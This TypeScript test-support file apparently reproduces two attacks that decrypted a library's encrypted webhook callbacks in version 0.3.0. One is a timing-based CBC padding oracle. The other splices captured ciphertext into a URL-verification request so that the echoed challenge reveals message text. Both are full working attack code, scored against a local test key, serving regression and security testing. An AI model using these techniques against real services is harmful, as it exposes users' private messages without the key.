// The attacks that decrypted captured callbacks of 0.3.0 without its key. Web APIs alone: they also run on other runtimes.
import { fromBase64, join, seal, toBase64, toBytes } from "../support/platform-callbacks.ts";
import { ENCRYPT_KEY, TOKEN } from "./unsigned-bodies.ts";

type Bytes = Uint8Array<ArrayBuffer>;

const BLOCK = 16;
const block = (bytes: Bytes, at: number): Bytes => bytes.slice(at * BLOCK, (at + 1) * BLOCK);
const bodyOf = (...blocks: Uint8Array[]): Bytes => toBytes({ encrypt: toBase64(join(...blocks)) });
const random = (length: number): Bytes => crypto.getRandomValues(new Uint8Array(length));
const xor = (...parts: Uint8Array[]): Bytes =>
  Uint8Array.from({ length: BLOCK }, (_, at) => parts.reduce((byte, part) => byte ^ (part[at] as number), 0));

const WORDS = "the release is ready for you and the rest of the team so please have a look at it today ";

/** The plain text of a message, as the platform sends it. */
const plainEvent = (repeated: number) =>
  JSON.stringify({
    schema: "2.0",
    header: {
      event_id: crypto.randomUUID(),
      token: TOKEN,
      create_time: "1700000000000",
      event_type: "im.message.receive_v1",
    },
    event: { message: { message_id: "om_1", content: WORDS.repeat(repeated) } },
  });

/** An event that was captured: its ciphertext, and what is in it, for the judge. */
async function capture(repeated = 3): Promise<{ sealed: Bytes; plain: Bytes }> {
  const plain = plainEvent(repeated);
  return { sealed: fromBase64(await seal(plain, ENCRYPT_KEY)), plain: toBytes(plain) };
}

/** Sends a body so many times, and resolves to how long that took, in any unit. */
export type Probe = (body: Bytes, times: number) => Promise<number>;

/** What an attack got. */
export interface Loot {
  readonly requests: number;
  /** Bytes, or messages, that were guessed. */
  readonly tried: number;
  readonly right: number;
}

/** What stands before the block that is attacked; its last byte is guessed. */
export const FRONTS = {
  /** As many blocks as a URL check has. */
  random: () => random(10 * BLOCK),
  /** The beginning of an event, which is known. */
  "known first block": (sealed) => join(sealed.subarray(0, 2 * BLOCK), random(8 * BLOCK)),
  /** What stood there when it was captured: the block becomes what it was, the text of a message. */
  nothing: (sealed, target) => block(sealed, target - 1),
} satisfies Record<string, (sealed: Bytes, target: number) => Bytes>;

/** How an attack on the padding is led. */
export interface PaddingAttack {
  front?: keyof typeof FRONTS;
  /** How many bytes to decrypt. */
  bytes?: number;
  /** How often each guess is measured, twice at least, and with how many requests at once. */
  rounds: number;
  times: number;
}

const GUESSES = 256;

/** The one index at which a value stands out: above all others, or below them. */
function outliers(values: readonly number[]): number[] {
  return [Math.min(...values), Math.max(...values)]
    .map((extreme) => values.flatMap((value, at) => (value === extreme ? [at] : [])))
    .flatMap((places) => (places.length === 1 ? places : []));
}

/** The median of every second value. */
function medianOf(values: readonly number[], half: number): number {
  const sorted = values.filter((_, at) => at % 2 === half).sort((a, b) => a - b);
  return sorted[(sorted.length - 1) >> 1] as number;
}

/**
 * The time of a refusal as an oracle of the padding: the last byte of some blocks of a captured event.
 *
 * Before the block stands one whose last byte is guessed: where the guess is right, the padding is. For each guess the
 * median of the rounds counts, and of the 256 guesses the one that stands out is taken for right.
 */
export async function paddingAttack(probe: Probe, attack: PaddingAttack): Promise<Loot> {
  const { front = "random", bytes = 4, rounds, times } = attack;
  const { sealed, plain } = await capture();
  let right = 0;
  for (let target = 3; target < 3 + bytes; target++) {
    const measured = Array.from({ length: GUESSES }, () => [] as number[]);
    const order = measured.map((_, guess) => guess);
    for (let round = 0; round < rounds; round++) {
      const before = FRONTS[front](sealed, target);
      order.sort(() => Math.random() - 0.5);
      for (const guess of order) {
        before[before.length - 1] = guess;
        measured[guess]?.push(await probe(bodyOf(before, block(sealed, target)), times));
      }
    }
    // A guess counts if it stands out in both halves of the measurement: by chance the right one hardly ever does.
    const [first, second] = [0, 1].map((half) => outliers(measured.map((all) => medianOf(all, half))));
    // guess ^ 1 is what the cipher makes of the block, and with the block before it the plain text.
    const truth = (plain[target * BLOCK - 1] as number) ^ (sealed[target * BLOCK - 1] as number) ^ 1;
    right += +(first?.includes(truth) === true && second?.includes(truth) === true);
  }
  return { requests: rounds * bytes * GUESSES * times, tried: bytes, right };
}

/** Sends a body, and resolves to the challenge that came back. */
export type Ask = (body: Bytes) => Promise<string | undefined>;

/** Captured ciphertext, put together so that it is a URL check whose challenge is the text of an event. */
export interface Splice {
  /** The body, with so many blocks of the event in it. */
  body(blocks: number): Bytes;
  /** What is in these blocks. */
  text(blocks: number): string;
}

/** The most blocks of an event in a splice. */
export const LONGEST = 6;

/** Whether two blocks together make what can stand inside a text of JSON. */
function makeText(noise: Bytes, sealed: Bytes, at: number): boolean {
  for (let i = 0; i < BLOCK; i++) {
    const byte = (noise[i] as number) ^ (sealed[at + i] as number);
    if (byte < 0x20 || byte > 0x7e || byte === 0x22 || byte === 0x5c) {
      return false;
    }
  }
  return true;
}

/** The ends of a captured URL check, from within its challenge: each with what the cipher makes of its first block. */
async function captureEnds(): Promise<{ end: Bytes; noise: Bytes }[]> {
  const check = JSON.stringify({ challenge: crypto.randomUUID(), token: TOKEN, type: "url_verification" });
  const sealed = fromBase64(await seal(check, ENCRYPT_KEY));
  return [1, 2].map((at) => ({
    end: sealed.slice((at + 1) * BLOCK),
    noise: xor(block(toBytes(check), at), block(sealed, at)),
  }));
}

/** A megabyte of captured messages. */
async function captureMessages(): Promise<{ sealed: Bytes; plain: Bytes }> {
  const plain = toBytes(plainEvent(11_000));
  const digest = await crypto.subtle.digest("SHA-256", toBytes(ENCRYPT_KEY));
  const key = await crypto.subtle.importKey("raw", digest, "AES-CBC", false, ["encrypt"]);
  const iv = random(BLOCK);
  const encrypted = new Uint8Array(await crypto.subtle.encrypt({ name: "AES-CBC", iv }, key, plain));
  const sealed = new Uint8Array(BLOCK + encrypted.length);
  sealed.set(iv);
  sealed.set(encrypted, BLOCK);
  return { sealed, plain };
}

/**
 * Blocks of a captured event between a first block of ours and the end of a captured URL check, which brings the right
 * token along.
 *
 * Where the two parts meet, a block of noise arises. The attacker knows the challenge, since it was answered in the clear,
 * and can compute the noise: he sends only what the noise does not break. One in ten million pairs of blocks is such.
 */
export async function findSplices(count: number): Promise<Splice[]> {
  const ends = (await Promise.all(Array.from({ length: 8 }, captureEnds))).flat();
  const splices: Splice[] = [];
  while (splices.length < count) {
    const { sealed, plain } = await captureMessages();
    const last = plain.length / BLOCK - 2;
    for (let at = 32; at < last; at++) {
      const fitting = ends.find(({ noise }) => makeText(noise, sealed, at * BLOCK));
      if (fitting) {
        splices.push({
          body(blocks) {
            const from = at - blocks;
            // A block whose text the attacker knows becomes the beginning of a URL check.
            const iv = xor(block(sealed, from - 1), block(plain, from - 1), toBytes('{"challenge":"xy'));
            return bodyOf(iv, sealed.slice(from * BLOCK, (at + 1) * BLOCK), fitting.end);
          },
          text: (blocks) => new TextDecoder().decode(plain.slice((at - blocks) * BLOCK, at * BLOCK)),
        });
      }
    }
  }
  return splices;
}

/** The URL check as a decryption oracle: it echoes the text of an event. */
export async function spliceAttack(ask: Ask, splices: readonly Splice[], requests: number): Promise<Loot> {
  let right = 0;
  for (let sent = 0; sent < requests; sent++) {
    const { body, text } = splices[sent % splices.length] as Splice;
    const blocks = 1 + (Math.floor(sent / splices.length) % LONGEST);
    right += +!!(await ask(body(blocks)))?.includes(text(blocks));
  }
  return { requests, tried: requests, right };
}
